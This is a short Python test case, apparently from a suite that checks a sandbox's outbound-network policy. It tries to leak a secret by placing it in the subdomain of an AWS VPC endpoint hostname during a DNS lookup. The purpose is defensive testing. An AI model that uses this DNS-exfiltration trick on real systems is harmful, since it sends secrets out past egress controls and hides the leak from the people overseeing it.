# class: network
# rule: outbound_connectivity
# policy: buckets.yaml
# success: a lookup carries data as the id of a VPC endpoint of an allowed service
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.getaddrinfo("vpce-" + SECRET + ".sqs.us-east-1.vpce.amazonaws.com", 443)
